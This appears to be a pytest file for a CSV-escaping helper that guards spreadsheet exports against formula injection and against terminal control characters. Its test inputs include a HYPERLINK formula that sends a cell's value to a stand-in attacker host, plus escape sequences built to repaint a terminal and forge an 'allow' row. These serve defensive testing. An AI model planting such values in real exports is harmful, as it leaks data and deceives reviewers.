"""`spreadsheet_cell`: a CSV cell a spreadsheet shows as text, and the value still recoverable from it."""

from __future__ import annotations

import pytest

from trustgate.report._common import spreadsheet_cell


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://attacker.example/?x="&B2,"open")', "+1", "-2+3", "@SUM(1+1)"],
)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(value: str) -> None:
    assert spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize(("value", "cell"), [("\tx", "'\\x09x"), ("\rx", "'\\x0dx")])
def test_a_cell_starting_with_a_tab_or_cr_starts_with_a_quote_and_shows_it_escaped(
    value: str, cell: str
) -> None:
    assert spreadsheet_cell(value) == cell


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("web\r\x1b[2K1,fake,allow\x1b[8m", "web\\x0d\\x1b[2K1,fake,allow\\x1b[8m"),
        ("web\nverdict allow", "web\\x0averdict allow"),
        ("pro\u200bd", "pro\\u200bd"),
        ("a\u202eb", "a\\u202eb"),
    ],
)
def test_control_and_invisible_characters_in_a_cell_are_shown_as_escapes(value: str, cell: str) -> None:
    """CSV printed on a terminal (or `cat`) must not be repainted by ESC or CR, nor a row split."""
    assert spreadsheet_cell(value) == cell


@pytest.mark.parametrize(
    "value", ["shop", "Pod/shop/web", "", "2026-01-01T00:00:00Z", "a=b", "x@example.com"]
)
def test_other_cells_are_unchanged(value: str) -> None:
    assert spreadsheet_cell(value) == value


@pytest.mark.parametrize("value", ["=1", "'=1", "''", "'", "plain", "'plain"])
def test_every_value_is_recovered_by_dropping_the_quote_a_cell_starts_with(value: str) -> None:
    cell = spreadsheet_cell(value)
    assert (cell[1:] if cell.startswith("'") else cell) == value


@pytest.mark.parametrize(
    "value",
    [
        "pro\u200bd",
        "pro\\u200bd",  # the text of an escape is not the character
        "a\\x0ab",
        "C:\\temp\\new",
        "\\",
        "=a\\b",
        "'\\U000e0041",
        "web\r\x1b[2K\n",
        "\U000e0041\ud800",
    ],
)
def test_every_value_is_recovered_from_its_cell(value: str) -> None:
    from trustgate.report._common import cell_value

    assert cell_value(spreadsheet_cell(value)) == value


def test_a_character_and_its_escape_written_out_are_two_cells() -> None:
    assert spreadsheet_cell("pro\u200bd") != spreadsheet_cell("pro\\u200bd")
    assert spreadsheet_cell("pro\\u200bd") == "pro\\\\u200bd"
    assert spreadsheet_cell("a\\b") == "a\\\\b"
